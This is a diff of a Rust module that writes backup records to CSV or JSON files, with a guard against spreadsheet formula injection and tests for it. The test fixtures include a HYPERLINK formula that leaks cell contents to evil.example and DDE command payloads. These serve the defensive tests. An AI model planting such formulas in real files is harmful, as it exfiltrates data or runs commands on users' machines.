@@ -1,29 +1,66 @@
-//! Backups as a file: CSV for a spreadsheet, JSON for a program. JSON has every text as the service stores it; CSV
-//! guards texts that a spreadsheet would run as formulas.
+//! Backups as a file: CSV for a spreadsheet, JSON for a program. JSON has every member as the service gives it. CSV puts
+//! an apostrophe in front of texts that a spreadsheet would run, and changes nothing else.
 
-use crate::cinder::Backup;
+use crate::cinder::member::string;
+use crate::cinder::{Backup, Member, Read, Status, rest};
 use crate::pagination::grouped;
 use crate::pairs::Pairs;
-use crate::timestamp::{Instant, Timestamp};
+use crate::timestamp::Instant;
 use std::fmt;
 
 /// What kind of file.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Format {
-    /// Comma-separated values, RFC 4180.
-    Csv,
+    /// Separated values, RFC 4180.
+    Csv(Delimiter),
     /// One JSON object, a backup a line.
     Json,
 }
 
+/// What stands between the cells of a CSV file. Where numbers have a decimal comma, spreadsheets expect semicolons.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+#[allow(missing_docs)]
+pub enum Delimiter {
+    #[default]
+    Comma,
+    Semicolon,
+}
+
+impl Delimiter {
+    /// Both of them.
+    pub const ALL: [Self; 2] = [Self::Comma, Self::Semicolon];
+
+    /// The word for it, on screen and in storage.
+    pub fn word(self) -> &'static str {
+        match self {
+            Self::Comma => "comma",
+            Self::Semicolon => "semicolon",
+        }
+    }
+
+    /// Reads the word; any other is a comma.
+    pub fn from_word(word: &str) -> Self {
+        Self::ALL.into_iter().find(|delimiter| delimiter.word() == word).unwrap_or_default()
+    }
+
+    fn sign(self) -> char {
+        match self {
+            Self::Comma => ',',
+            Self::Semicolon => ';',
+        }
+    }
+}
+
 impl Format {
-    /// All of them.
-    pub const ALL: [Self; 2] = [Self::Csv, Self::Json];
+    /// The formats that are offered with this delimiter.
+    pub fn all(delimiter: Delimiter) -> [Self; 2] {
+        [Self::Csv(delimiter), Self::Json]
+    }
 
     /// How the file's name ends.
     pub fn extension(self) -> &'static str {
         match self {
-            Self::Csv => "csv",
+            Self::Csv(_) => "csv",
             Self::Json => "json",
         }
     }
@@ -31,7 +68,7 @@ impl Format {
     /// The file's media type.
     pub fn media_type(self) -> &'static str {
         match self {
-            Self::Csv => "text/csv;charset=utf-8",
+            Self::Csv(_) => "text/csv;charset=utf-8",
             Self::Json => "application/json",
         }
     }
@@ -39,7 +76,7 @@ impl Format {
     /// The word on screen.
     pub fn label(self) -> &'static str {
         match self {
-            Self::Csv => "CSV",
+            Self::Csv(_) => "CSV",
             Self::Json => "JSON",
         }
     }
@@ -86,58 +123,61 @@ const NAMES: [&str; 20] = [
 
 fn values(backup: &Backup) -> [Value; 20] {
     [
-        text(Some(&backup.id)),
-        text(backup.name.as_ref()),
-        Value::Text(backup.status.word().to_owned()),
-        text(backup.fail_reason.as_ref()),
-        text(backup.volume_id.as_ref()),
-        flag(backup.is_incremental),
-        number(backup.size),
-        number(backup.object_count),
-        time(backup.data_timestamp.as_ref()),
-        time(backup.created_at.as_ref()),
-        time(backup.updated_at.as_ref()),
-        text(backup.availability_zone.as_ref()),
-        text(backup.container.as_ref()),
-        text(backup.snapshot_id.as_ref()),
-        flag(backup.has_dependent_backups),
-        text(backup.description.as_ref().map(|description| &description.stored)),
-        text(backup.project_id.as_ref()),
-        text(backup.user_id.as_ref()),
-        text(backup.encryption_key_id.as_ref()),
-        backup.metadata.as_ref().map_or(Value::Null, |pairs| Value::Object(object(pairs))),
+        Some(backup.id.clone()).filter(|id| !id.is_empty()).map_or(Value::Null, Value::Text),
+        text(&backup.name),
+        if backup.status == Status::Missing { Value::Null } else { Value::Text(backup.status.word().to_owned()) },
+        text(&backup.fail_reason),
+        text(&backup.volume_id),
+        flag(&backup.is_incremental),
+        number(&backup.size),
+        number(&backup.object_count),
+        time(&backup.data_timestamp),
+        time(&backup.created_at),
+        time(&backup.updated_at),
+        text(&backup.availability_zone),
+        text(&backup.container),
+        text(&backup.snapshot_id),
+        flag(&backup.has_dependent_backups),
+        value(&backup.description, |description| Value::Text(description.stored.clone())),
+        text(&backup.project_id),
+        text(&backup.user_id),
+        text(&backup.encryption_key_id),
+        value(&backup.metadata, |pairs| Value::Json(object(pairs))),
     ]
 }
 
-/// A field's value as both formats take it.
+/// A member's value as both formats take it.
 enum Value {
     Null,
     /// A number or a truth value.
     Bare(String),
     Text(String),
     /// JSON, which CSV takes as a text.
-    Object(String),
+    Json(String),
 }
 
-fn text(text: Option<&String>) -> Value {
-    text.map_or(Value::Null, |text| Value::Text(text.clone()))
+fn value<T>(member: &Member<T>, plain: impl FnOnce(&T) -> Value) -> Value {
+    match member {
+        Member::Absent => Value::Null,
+        Member::Plain(value) => plain(value),
+        Member::Odd(odd) => Value::Json(in_a_line(&odd.raw)),
+    }
 }
 
-fn flag(flag: Option<bool>) -> Value {
-    flag.map_or(Value::Null, |flag| Value::Bare(if flag { "true" } else { "false" }.to_owned()))
+fn text(member: &Member<String>) -> Value {
+    value(member, |text| Value::Text(text.clone()))
 }
 
-fn number(number: Option<i64>) -> Value {
-    number.map_or(Value::Null, |number| Value::Bare(number.to_string()))
+fn flag(member: &Member<bool>) -> Value {
+    value(member, |flag| Value::Bare(if *flag { "true" } else { "false" }.to_owned()))
 }
 
-fn time(time: Option<&Timestamp>) -> Value {
-    time.map_or(Value::Null, |time| {
-        Value::Text(match time {
-            Timestamp::At(instant) => instant.to_string(),
-            Timestamp::Unreadable(text) => text.clone(),
-        })
-    })
+fn number(member: &Member<i64>) -> Value {
+    value(member, |number| Value::Bare(number.to_string()))
+}
+
+fn time(member: &Member<Instant>) -> Value {
+    value(member, |instant| Value::Text(instant.to_string()))
 }
 
 fn object(pairs: &Pairs<String>) -> String {
@@ -150,31 +190,33 @@ fn quoted(text: &str) -> String {
     serde_json::to_string(text).unwrap_or_default()
 }
 
-/// A text that no spreadsheet runs. The apostrophe goes before white space, because readers differ in whether they drop
-/// it; full-width signs count, because Excel in East Asia takes them for the plain ones. Where Windows separates lists by
-/// semicolons, Excel cuts a CSV file there and at line breaks, and heeds no quotes that do not open a cell of its own
-/// reckoning: what comes after a semicolon, a line break or such a quote can begin a cell.
-fn guarded(text: &str) -> String {
-    let mut safe = String::with_capacity(text.len() + 1);
-    for part in text.split_inclusive([';', '\r', '\n']) {
-        let rest = part.trim_start_matches(|c: char| c <= ' ' || c.is_whitespace() || matches!(c, '"' | '\u{feff}'));
-        let is_formula = rest.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
-        if is_formula || safe.is_empty() && part.starts_with(|c| c < ' ') {
-            safe.push('\'');
-        }
-        safe.push_str(part);
-    }
-    safe
+/// JSON in one line: in its texts there are no line breaks, between them they mean nothing.
+fn in_a_line(json: &str) -> String {
+    json.replace(['\n', '\r'], " ")
 }
 
-/// Writes a text's cell. An empty text has quotes and null has none: databases that read CSV tell them apart by this.
+/// Whether a spreadsheet would run a text, which it does by how a cell begins, blanks aside. Excel in East Asia takes
+/// full-width signs for the plain ones. A number with its sign is a number and nothing to run.
+fn is_run(text: &str) -> bool {
+    let text = text.trim_start_matches(|c: char| c <= ' ' || c.is_whitespace() || c == '\u{feff}');
+    let mut rest = text.chars();
+    match rest.next() {
+        Some('=' | '@' | '＝' | '＠' | '＋' | '－') => true,
+        Some('+' | '-') => !rest.all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',')),
+        _ => false,
+    }
+}
+
+/// Writes a text's cell. One apostrophe goes in front of what a spreadsheet would run, and of what begins with an
+/// apostrophe, so that whoever takes one off has the text. An empty text has quotes and null has none: databases that
+/// read CSV tell them apart by this. What another delimiter would cut has quotes too.
 fn cell(csv: &mut String, text: &str) {
-    let text = guarded(text);
-    let quotes = text.is_empty() || text.trim().len() < text.len() || text.contains([',', '"', '\r', '\n']);
+    let guard = if text.starts_with('\'') || is_run(text) { "'" } else { "" };
+    let quotes = text.is_empty() || text.trim().len() < text.len() || text.contains([',', ';', '\t', '"', '\r', '\n']);
     if quotes {
-        csv.extend(["\"", &text.replace('"', "\"\""), "\""]);
+        csv.extend(["\"", guard, &text.replace('"', "\"\""), "\""]);
     } else {
-        csv.push_str(&text);
+        csv.extend([guard, text]);
     }
 }
 
@@ -183,8 +225,8 @@ fn cell(csv: &mut String, text: &str) {
 pub struct Writer {
     format: Format,
     text: String,
-    /// What ends every row.
-    tail: String,
+    /// What is the same in every row.
+    about: String,
     expected: usize,
     written: usize,
 }
@@ -193,18 +235,23 @@ impl Writer {
     /// Begins a file.
     pub fn new(format: Format, about: About) -> Self {
         let as_of = about.as_of.to_string();
-        let mut tail = String::new();
+        let mut same = String::new();
         let text = match format {
-            Format::Csv => {
+            Format::Csv(delimiter) => {
+                let sign = delimiter.sign();
                 // In every row, so that a row tells where it is from even in a merged file; RFC 4180 has no comments.
                 for text in [&as_of, &about.extent, &about.filters] {
-                    tail.push(',');
-                    cell(&mut tail, text);
+                    same.push(sign);
+                    cell(&mut same, text);
                 }
-                tail.push_str("\r\n");
-                let names: Vec<&str> = NAMES.iter().map(|name| name.rsplit(':').next().unwrap_or(name)).collect();
+                same.push(sign);
                 // Without a byte order mark, Excel reads names that are not ASCII in its old code page.
-                format!("\u{feff}{},as_of,extent,filters\r\n", names.join(","))
+                let mut text = "\u{feff}".to_owned();
+                for name in NAMES.into_iter().chain(["as_of", "extent", "filters"]) {
+                    text.push_str(name.rsplit(':').next().unwrap_or(name));
+                    text.push(sign);
+                }
+                text + "unreadable\r\n"
             }
             Format::Json => format!(
                 "{{\"project_id\":{},\"as_of\":{},\"filters\":{},\"extent\":{},\"count\":{},\"backups\":[",
@@ -215,39 +262,57 @@ impl Writer {
                 about.rows
             ),
         };
-        Self { format, text, tail, expected: about.rows, written: 0 }
+        Self { format, text, about: same, expected: about.rows, written: 0 }
     }
 
-    /// Adds a row.
-    pub fn push(&mut self, backup: &Backup) {
+    /// Adds a row. `raw` is its JSON, which is written where it could not be read.
+    pub fn push(&mut self, read: &Read, raw: &str) {
+        match self.format {
+            Format::Csv(delimiter) => self.push_csv(read, raw, delimiter.sign()),
+            Format::Json => self.push_json(read, raw),
+        }
+        self.written += 1;
+    }
+
+    fn push_csv(&mut self, read: &Read, raw: &str, delimiter: char) {
         let out = &mut self.text;
-        let mut separator = match (self.format, self.written) {
-            (Format::Csv, _) => "",
-            (Format::Json, 0) => "\n{",
-            (Format::Json, _) => ",\n{",
-        };
-        for (name, value) in NAMES.into_iter().zip(values(backup)) {
-            out.push_str(separator);
-            separator = ",";
-            match (self.format, value) {
-                (Format::Csv, Value::Null) => {}
-                (Format::Csv, Value::Text(text) | Value::Object(text)) => cell(out, &text),
-                (Format::Csv, Value::Bare(text)) => out.push_str(&text),
-                (Format::Json, value) => {
-                    let value = match value {
-                        Value::Null => "null".to_owned(),
-                        Value::Text(text) => quoted(&text),
-                        Value::Bare(json) | Value::Object(json) => json,
-                    };
-                    out.extend(["\"", name, "\":", &value]);
-                }
+        for (place, value) in values(rest(read)).into_iter().enumerate() {
+            if place > 0 {
+                out.push(delimiter);
+            }
+            match value {
+                Value::Null => {}
+                Value::Bare(text) => out.push_str(&text),
+                Value::Text(text) => cell(out, &text),
+                Value::Json(json) => cell(out, &string(&json).unwrap_or(json)),
             }
         }
-        out.push_str(match self.format {
-            Format::Csv => &self.tail,
-            Format::Json => "}",
-        });
-        self.written += 1;
+        out.push_str(&self.about);
+        if read.is_err() {
+            cell(out, raw);
+        }
+        out.push_str("\r\n");
+    }
+
+    fn push_json(&mut self, read: &Read, raw: &str) {
+        let out = &mut self.text;
+        out.push_str(if self.written == 0 { "\n" } else { ",\n" });
+        let Ok(backup) = read else { return out.push_str(&in_a_line(raw)) };
+        let mut separator = "{";
+        for (name, value) in NAMES.into_iter().zip(values(backup)) {
+            let value = match value {
+                Value::Null => "null".to_owned(),
+                Value::Text(text) => quoted(&text),
+                Value::Bare(json) | Value::Json(json) => json,
+            };
+            out.extend([separator, "\"", name, "\":", &value]);
+            separator = ",";
+        }
+        // Links are left out, for they say nothing of the backup, unless they are something else.
+        if let Some(raw) = backup.links.raw() {
+            out.extend([",\"links\":", &in_a_line(raw)]);
+        }
+        out.push('}');
     }
 
     /// The whole text; refused when not as many rows were written as were promised.
@@ -292,12 +357,12 @@ pub fn file_name(format: Format, about: &About) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::cinder::Status;
-    use crate::cinder::backup::Description;
+    use crate::cinder::{Row, answer};
     use proptest::prelude::*;
+    use serde_json::Value as Json;
 
+    const COMMA: Format = Format::Csv(Delimiter::Comma);
     const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
-    const BARE: [&str; 4] = ["is_incremental", "size", "object_count", "has_dependent_backups"];
 
     fn about(rows: usize) -> About {
         About {
@@ -309,21 +374,29 @@ mod tests {
         }
     }
 
-    fn written(format: Format, backups: &[Backup]) -> String {
-        let mut writer = Writer::new(format, about(backups.len()));
-        for backup in backups {
-            writer.push(backup);
+    fn push(writer: &mut Writer, row: &Row) {
+        writer.push(&row.read, row.raw());
+    }
+
+    fn written(format: Format, rows: &[Row]) -> String {
+        let mut writer = Writer::new(format, about(rows.len()));
+        for row in rows {
+            push(&mut writer, row);
         }
         writer.finish().unwrap()
     }
 
-    fn named(name: &str) -> Backup {
-        Backup { name: Some(name.to_owned()), ..Backup::read(r#"{"id": "a", "status": "available"}"#).unwrap() }
+    fn row(json: &str) -> Row {
+        answer::one(format!(r#"{{"backup": {json}}}"#).as_bytes()).unwrap()
+    }
+
+    fn named(name: &str) -> Row {
+        row(&serde_json::json!({"id": "a", "status": "available", "name": name}).to_string())
     }
 
     /// RFC 4180 to the letter: every record ends in CRLF, a quote is in quotes and doubled; a cell is its text and
     /// whether it was in quotes.
-    fn read(csv: &str) -> Result<Vec<Vec<(String, bool)>>, String> {
+    fn read(csv: &str, delimiter: char) -> Result<Vec<Vec<(String, bool)>>, String> {
         let mut rest = csv.strip_prefix('\u{feff}').ok_or("no byte order mark")?;
         let (mut records, mut record) = (Vec::new(), Vec::new());
         while !rest.is_empty() {
@@ -340,12 +413,12 @@ mod tests {
                     rest = more;
                 }
             } else {
-                let end = rest.find([',', '"', '\r', '\n']).ok_or("no end")?;
+                let end = rest.find([delimiter, '"', '\r', '\n']).ok_or("no end")?;
                 text += &rest[..end];
                 rest = &rest[end..];
             }
             record.push((text, is_quoted));
-            if let Some(more) = rest.strip_prefix(',') {
+            if let Some(more) = rest.strip_prefix(delimiter) {
                 rest = more;
             } else {
                 rest = rest.strip_prefix("\r\n").ok_or_else(|| format!("stray text: {rest:.20}"))?;
@@ -355,53 +428,14 @@ mod tests {
         if record.is_empty() { Ok(records) } else { Err("the last record has no end".to_owned()) }
     }
 
-    /// What the cells of a row must be, unguarded.
-    fn cells(backup: &Backup) -> Vec<Option<String>> {
-        let Backup { links: _, .. } = backup;
-        let time = |time: &Option<Timestamp>| {
-            time.as_ref().map(|time| match time {
-                Timestamp::At(instant) => instant.to_string(),
-                Timestamp::Unreadable(text) => text.clone(),
-            })
-        };
-        let about = about(0);
-        vec![
-            Some(backup.id.clone()),
-            backup.name.clone(),
-            Some(backup.status.word().to_owned()),
-            backup.fail_reason.clone(),
-            backup.volume_id.clone(),
-            backup.is_incremental.map(|flag| flag.to_string()),
-            backup.size.map(|size| size.to_string()),
-            backup.object_count.map(|count| count.to_string()),
-            time(&backup.data_timestamp),
-            time(&backup.created_at),
-            time(&backup.updated_at),
-            backup.availability_zone.clone(),
-            backup.container.clone(),
-            backup.snapshot_id.clone(),
-            backup.has_dependent_backups.map(|flag| flag.to_string()),
-            backup.description.clone().map(|description| description.stored),
-            backup.project_id.clone(),
-            backup.user_id.clone(),
-            backup.encryption_key_id.clone(),
-            backup.metadata.as_ref().map(object),
-            Some("2026-11-24T09:41:00.123456Z".to_owned()),
-            Some(about.extent),
-            Some(about.filters),
-        ]
-    }
-
-    /// A guarded text without its apostrophes.
-    fn unguarded(cell: &str, text: &str) -> bool {
-        let mut rest = cell.chars().peekable();
-        text.chars().all(|c| rest.next_if_eq(&c).is_some() || rest.next() == Some('\'') && rest.next() == Some(c))
-            && rest.next().is_none()
+    /// What a program has of a cell: one apostrophe is taken off.
+    fn unguarded(cell: &str) -> &str {
+        cell.strip_prefix('\'').unwrap_or(cell)
     }
 
     fn any_text() -> impl Strategy<Value = String> {
         prop_oneof![
-            "[=+@,;\"' \t\r\n\0a＝＋－＠\u{feff}\u{a0}💾-]{0,10}",
+            "[=+@,;\"' \t\r\n\0a1＝＋－＠\u{feff}\u{a0}💾-]{0,10}",
             "\\PC{0,12}",
             Just("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".to_owned()),
             Just("nightly;=cmd|' /C calc'!A0".to_owned()),
@@ -409,128 +443,189 @@ mod tests {
         ]
     }
 
-    fn any_time() -> impl Strategy<Value = Option<Timestamp>> {
-        prop::option::of(prop_oneof![
-            (-62_135_596_800_000_i64..253_402_300_800_000).prop_map(|ms| Timestamp::At(Instant::from_millis(ms))),
-            any_text().prop_map(Timestamp::read),
-        ])
+    fn any_json() -> impl Strategy<Value = Json> {
+        let leaf = prop_oneof![
+            Just(Json::Null),
+            any::<bool>().prop_map(Json::from),
+            any::<i64>().prop_map(Json::from),
+            any::<i32>().prop_map(|eighths| Json::from(f64::from(eighths) / 8.0)),
+            any_text().prop_map(Json::from),
+            Just(Json::from("2026-11-23T02:00:00.000000")),
+            Just(Json::from(i64::MIN)),
+            Just(Json::from(i64::MIN + 1)),
+        ];
+        leaf.prop_recursive(3, 12, 3, |inner| {
+            prop_oneof![
+                prop::collection::vec(inner.clone(), 0..3).prop_map(Json::from),
+                prop::collection::vec((any_text(), inner), 0..3)
+                    .prop_map(|pairs| Json::Object(pairs.into_iter().collect())),
+            ]
+        })
     }
 
-    prop_compose! {
-        fn any_backup()(
-            id in any_text(),
-            status in any_text(),
-            texts in prop::collection::vec(prop::option::of(any_text()), 10),
-            numbers in prop::array::uniform2(any::<Option<i64>>()),
-            flags in prop::array::uniform2(any::<Option<bool>>()),
-            times in prop::array::uniform3(any_time()),
-            metadata in prop::option::of(prop::collection::vec((any_text(), any_text()), 0..3)),
-        ) -> Backup {
-            let mut texts = texts.into_iter();
-            let mut text = || texts.next().flatten();
-            let [created_at, updated_at, data_timestamp] = times;
-            Backup {
-                id,
-                status: Status::from_word(&status),
-                name: text(),
-                description: text().map(Description::read),
-                volume_id: text(),
-                fail_reason: text(),
-                size: numbers[0],
-                object_count: numbers[1],
-                container: text(),
-                availability_zone: text(),
-                created_at,
-                updated_at,
-                data_timestamp,
-                snapshot_id: text(),
-                is_incremental: flags[0],
-                has_dependent_backups: flags[1],
-                project_id: text(),
-                user_id: text(),
-                encryption_key_id: text(),
-                metadata: metadata.map(Pairs),
-                links: None,
+    /// A row with any JSON in any of its members, its id and its status aside.
+    fn any_members() -> impl Strategy<Value = serde_json::Map<String, Json>> {
+        let key = prop::sample::select(
+            NAMES[..]
+                .iter()
+                .filter(|name| !matches!(**name, "id" | "status"))
+                .chain([&"links"])
+                .copied()
+                .collect::<Vec<_>>(),
+        );
+        prop::collection::btree_map(key, any_json(), 0..20)
+            .prop_map(|members| members.into_iter().map(|(key, value)| (key.to_owned(), value)).collect())
+    }
+
+    fn any_row() -> impl Strategy<Value = Json> {
+        prop_oneof![
+            8 => (any_members(), "[a-f0-9]{8}", "error|available|Archiving").prop_map(|(mut members, id, status)| {
+                members.insert("id".to_owned(), id.into());
+                members.insert("status".to_owned(), status.into());
+                Json::Object(members)
+            }),
+            1 => any_members().prop_map(Json::Object),
+            1 => any_json(),
+        ]
+    }
+
+    /// As the JSON file has it: times are set out alike, null is as good as missing.
+    fn expected(member: Option<&Json>, name: &str) -> Json {
+        let time = |text: &str| Instant::parse(text.trim()).map(|instant| instant.to_string());
+        match member {
+            None => Json::Null,
+            Some(Json::String(text)) if name.ends_with("_at") || name == "data_timestamp" => {
+                time(text).unwrap_or_else(|| text.clone()).into()
             }
+            Some(value) => value.clone(),
         }
     }
 
     #[test]
     fn a_csv_file_has_one_header_and_says_in_every_row_where_it_is_from() {
-        let backup = Backup::read(
-            r#"{"id": "a", "status": "error", "name": "-1", "size": -1, "is_incremental": false, "created_at": "2026-11-23T02:00:00.000000",
-                "updated_at": "soon", "description": "", "os-backup-project-attr:project_id": "q", "metadata": {"k": "v\n"}}"#,
+        let backup = row(
+            r#"{"id": "a", "status": "error", "name": "-x", "size": -1, "object_count": 6.5, "is_incremental": false,
+                "created_at": "2026-11-23T02:00:00.000000", "updated_at": "soon", "description": "",
+                "os-backup-project-attr:project_id": "q", "metadata": {"k": "v\n"}, "container": ["a;b"]}"#,
         );
+        let broken = row("{\"status\": \"ERROR\",\n \"fail_reason\": \"=1\"}");
         assert_eq!(
-            written(Format::Csv, &[backup.unwrap()]),
+            written(COMMA, &[backup.clone(), broken.clone()]),
             "\u{feff}id,name,status,fail_reason,volume_id,is_incremental,size,object_count,data_timestamp,created_at,\
              updated_at,availability_zone,container,snapshot_id,has_dependent_backups,description,project_id,user_id,\
-             encryption_key_id,metadata,as_of,extent,filters\r\n\
-             a,'-1,error,,,false,-1,,,2026-11-23T02:00:00.000000Z,\
-             soon,,,,,\"\",q,,,\"{\"\"k\"\":\"\"v\\n\"\"}\",\
-             2026-11-24T09:41:00.123456Z,\"partial: 11,000 of 12,431\",'-status:available\r\n"
+             encryption_key_id,metadata,as_of,extent,filters,unreadable\r\n\
+             a,'-x,error,,,false,-1,6.5,,2026-11-23T02:00:00.000000Z,\
+             soon,,\"[\"\"a;b\"\"]\",,,\"\",q,,,\"{\"\"k\"\":\"\"v\\n\"\"}\",\
+             2026-11-24T09:41:00.123456Z,\"partial: 11,000 of 12,431\",'-status:available,\r\n\
+             ,,error,'=1,,,,,,,,,,,,,,,,,\
+             2026-11-24T09:41:00.123456Z,\"partial: 11,000 of 12,431\",'-status:available,\
+             \"{\"\"status\"\": \"\"ERROR\"\",\n \"\"fail_reason\"\": \"\"=1\"\"}\"\r\n"
+        );
+        let semicolons = written(Format::Csv(Delimiter::Semicolon), &[backup, broken]);
+        assert!(
+            semicolons.contains("\r\na;'-x;error;;;false;-1;6.5;;2026-11-23T02:00:00.000000Z;soon;;\"[\"\"a;b\"\"]\";"),
+            "{semicolons}"
         );
     }
 
     #[test]
     fn a_json_file_has_a_backup_a_line() {
-        let json = written(Format::Json, &[named("=1"), named("\0\u{1f4be}\"")]);
+        let odd = row("{\"id\": \"b\", \"status\": \"error\", \"size\": \"40\", \"name\": [1,\n2], \"links\": 5}");
+        let json = written(
+            Format::Json,
+            &[named("=1"), named("\0\u{1f4be}\""), odd, row("{\"status\":\n\"error\"}"), row("null")],
+        );
         let lines: Vec<_> = json.split('\n').collect();
         assert_eq!(
             lines[0],
-            r#"{"project_id":"p","as_of":"2026-11-24T09:41:00.123456Z","filters":"-status:available","extent":"partial: 11,000 of 12,431","count":2,"backups":["#
+            r#"{"project_id":"p","as_of":"2026-11-24T09:41:00.123456Z","filters":"-status:available","extent":"partial: 11,000 of 12,431","count":5,"backups":["#
         );
         assert!(lines[1].starts_with(r#"{"id":"a","name":"=1","status":"available","fail_reason":null,"#));
         assert!(lines[2].starts_with(r#"{"id":"a","name":"\u0000💾\"","#));
-        assert_eq!(lines[3..], ["]}", ""]);
+        assert!(
+            lines[3].starts_with(r#"{"id":"b","name":[1, 2],"status":"error","#)
+                && lines[3].ends_with(r#","links":5},"#)
+        );
+        assert_eq!(lines[4..], ["{\"status\": \"error\"},", "null", "]}", ""]);
     }
 
     #[test]
     fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
-        for (text, expected) in [
-            ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
-            ("+1", "'+1"),
-            ("-1", "'-1"),
-            ("@SUM(A1)", "'@SUM(A1)"),
-            ("\ta", "'\ta"),
-            ("\ra", "'\ra"),
-            ("\0a", "'\0a"),
-            (" \u{a0}=1", "' \u{a0}=1"),
-            ("＝1", "'＝1"),
-            ("＋1", "'＋1"),
-            ("－1", "'－1"),
-            ("＠1", "'＠1"),
-            ("a; =1;b", "a;' =1;b"),
-            ("a\n=1", "a\n'=1"),
-            ("a;\"=1", "a;'\"=1"),
-            ("'=1", "'=1"),
-            ("a-b=c, =d", "a-b=c, =d"),
-            ("!=", "!="),
-            ("", ""),
+        for text in [
+            "=HYPERLINK(\"x\")",
+            "=1",
+            "+cmd|' /C calc'!A0",
+            "-x",
+            "-1+1",
+            "+1-1",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\0=1",
+            "\u{feff}=1",
+            " \u{a0}=1",
+            "＝1",
+            "＋1",
+            "－1",
+            "＠1",
+            "'=1",
+            "'quoted'",
+            "--",
         ] {
-            assert_eq!(guarded(text), expected);
+            let mut csv = String::new();
+            cell(&mut csv, text);
+            let cells = read(&format!("\u{feff}{csv}\r\n"), ',').unwrap();
+            assert_eq!(cells[0][0].0, format!("'{text}"));
+        }
+    }
+
+    #[test]
+    fn nothing_else_in_a_text_is_changed() {
+        for text in [
+            "-5",
+            "+49 170 1234567",
+            "-1.5",
+            "+1,000",
+            "-",
+            "\ta",
+            "\ra",
+            "a; =1;b",
+            "a\n=1",
+            "a;\"=1",
+            "\"=1",
+            "a-b=c, =d",
+            "!=",
+            "",
+            "it's",
+            "nightly;=cmd|' /C calc'!A0",
+            "a\r\n@x",
+        ] {
+            let mut csv = String::new();
+            cell(&mut csv, text);
+            let cells = read(&format!("\u{feff}{csv}\r\n"), ';').unwrap();
+            assert_eq!(cells[0][0].0, text);
         }
     }
 
     #[test]
     fn a_file_without_rows_is_whole() {
-        assert_eq!(read(&written(Format::Csv, &[])).unwrap().len(), 1);
+        assert_eq!(read(&written(COMMA, &[]), ',').unwrap().len(), 1);
         let json: serde_json::Value = serde_json::from_str(&written(Format::Json, &[])).unwrap();
         assert_eq!(json["backups"], serde_json::json!([]));
     }
 
     #[test]
     fn a_file_with_another_number_of_rows_is_refused() {
-        for format in Format::ALL {
+        for format in Format::all(Delimiter::Semicolon) {
             let mut writer = Writer::new(format, about(2));
-            writer.push(&named("a"));
+            push(&mut writer, &named("a"));
             let refused = writer.finish().unwrap_err();
             assert_eq!(refused, Miscounted { expected: 2, written: 1 });
             assert_eq!(refused.to_string(), "1 row was written where 2 were expected: nothing was saved.");
         }
-        let mut writer = Writer::new(Format::Csv, about(1));
-        writer.push(&named("a"));
-        writer.push(&named("a"));
+        let mut writer = Writer::new(COMMA, about(1));
+        push(&mut writer, &named("a"));
+        push(&mut writer, &named("a"));
         assert_eq!(
             writer.finish().unwrap_err().to_string(),
             "2 rows were written where 1 was expected: nothing was saved."
@@ -541,30 +636,69 @@ mod tests {
 
     #[test]
     fn a_file_is_named_after_its_time_and_its_rows() {
-        assert_eq!(file_name(Format::Csv, &about(412)), "backups_20261124T094100Z_412-rows.csv");
+        assert_eq!(file_name(COMMA, &about(412)), "backups_20261124T094100Z_412-rows.csv");
         assert_eq!(file_name(Format::Json, &about(1)), "backups_20261124T094100Z_1-row.json");
     }
 
     proptest! {
-        #![proptest_config(ProptestConfig::with_cases(512))]
+        #![proptest_config(ProptestConfig::with_cases(96))]
 
         #[test]
-        fn every_csv_reads_back_to_its_cells(backups in prop::collection::vec(any_backup(), 0..4)) {
-            let records = read(&written(Format::Csv, &backups)).map_err(TestCaseError::fail)?;
-            prop_assert_eq!(records.len(), backups.len() + 1);
-            for (record, backup) in records[1..].iter().zip(&backups) {
-                let expected = cells(backup);
-                prop_assert_eq!(record.len(), expected.len());
-                prop_assert_eq!(record.len(), records[0].len());
-                for (((cell, is_quoted), expected), (name, _)) in record.iter().zip(expected).zip(&records[0]) {
-                    let is_bare = BARE.contains(&name.as_str());
-                    match expected {
-                        None => prop_assert!(cell.is_empty() && !is_quoted),
-                        Some(text) if is_bare => prop_assert_eq!((cell, *is_quoted), (&text, false)),
-                        Some(text) => {
-                            prop_assert!(unguarded(cell, &text), "{name}: {cell:?} of {text:?}");
-                            prop_assert!(!cell.is_empty() || *is_quoted);
-                            prop_assert!(!cell.trim_start().starts_with(FORMULA) && !cell.starts_with(['\t', '\r', '\n', '\0']));
+        fn every_csv_reads_back_to_its_cells(texts in prop::collection::vec(any_text(), 3), semicolon: bool) {
+            let row = row(&serde_json::json!({"id": "a", "status": "error", "name": texts[0], "fail_reason": texts[1], "container": texts[2]}).to_string());
+            let delimiter = if semicolon { Delimiter::Semicolon } else { Delimiter::Comma };
+            let records = read(&written(Format::Csv(delimiter), &[row]), delimiter.sign()).map_err(TestCaseError::fail)?;
+            prop_assert_eq!(records.len(), 2);
+            prop_assert_eq!(records[0].len(), records[1].len());
+            for (name, text) in [("name", &texts[0]), ("fail_reason", &texts[1]), ("container", &texts[2])] {
+                let place = records[0].iter().position(|(known, _)| known == name).unwrap();
+                let (cell, is_quoted) = &records[1][place];
+                prop_assert_eq!(unguarded(cell), text);
+                prop_assert!(!cell.is_empty() || *is_quoted);
+                let begins = cell.trim_start_matches(|c: char| c <= ' ' || c.is_whitespace() || c == '\u{feff}');
+                let is_number = cell.trim().chars().all(|c| c.is_ascii_digit() || "+-., ".contains(c));
+                prop_assert!(is_number || !begins.starts_with(FORMULA), "{cell:?}");
+            }
+        }
+
+        #[test]
+        fn whatever_a_member_is_the_files_have_it(rows in prop::collection::vec(any_row(), 0..4)) {
+            let body = serde_json::json!({ "backups": rows }).to_string();
+            let page = answer::list(body.as_bytes()).unwrap();
+            for (row, json) in page.rows.iter().zip(&rows) {
+                let is_backup = json["id"].is_string() && json["status"].is_string();
+                prop_assert_eq!(row.read.is_ok(), is_backup);
+            }
+            let json: Json = serde_json::from_str(&written(Format::Json, &page.rows)).unwrap();
